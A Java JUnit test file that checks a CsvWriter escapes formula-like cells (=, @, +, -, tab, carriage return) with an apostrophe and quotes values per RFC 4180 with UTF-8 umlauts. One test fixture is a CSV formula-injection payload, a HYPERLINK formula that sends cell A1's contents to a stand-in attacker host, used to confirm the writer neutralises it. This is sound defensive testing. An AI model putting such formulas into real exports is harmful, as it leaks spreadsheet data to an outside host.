package org.asskomm.platform.api.csv;

import static org.junit.Assert.assertArrayEquals;
import static org.junit.Assert.assertEquals;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;

import org.junit.Test;

public class CsvWriterTest {

    @Test
    public void formulasOpenAsText() {
        byte[] file = new CsvWriter("name", "amount")
                .row("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", new BigDecimal("-12.50"))
                .row("@SUM(A1:A9)", 3)
                .row("+49 371 1234", null)
                .row("-1+1", BigDecimal.ZERO)
                .row("\tTab", "\rCR")
                .toBytes();
        String expected = "name,amount\r\n"
                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klick\"\")\",-12.50\r\n"
                + "'@SUM(A1:A9),3\r\n"
                + "'+49 371 1234,\r\n"
                + "'-1+1,0\r\n"
                + "'\tTab,\"'\rCR\"\r\n";
        assertArrayEquals(expected.getBytes(StandardCharsets.UTF_8), file);
    }

    @Test
    public void quotingFollowsRfc4180AndUmlautsAreUtf8() {
        assertEquals("Flöha", CsvWriter.text("Flöha"));
        assertEquals("\"Dienstfahrzeug, Leasing\"", CsvWriter.text("Dienstfahrzeug, Leasing"));
        assertEquals("\"Der \"\"Rat\"\"\"", CsvWriter.text("Der \"Rat\""));
        assertEquals("\"zwei\nZeilen\"", CsvWriter.text("zwei\nZeilen"));
        assertEquals("", CsvWriter.cell(null));
        assertEquals("a=b", CsvWriter.text("a=b"));
        assertArrayEquals(new byte[] {'F', 'l', (byte) 0xC3, (byte) 0xB6, 'h', 'a', '\r', '\n'},
                new CsvWriter().row("Flöha").toBytes());
    }
}
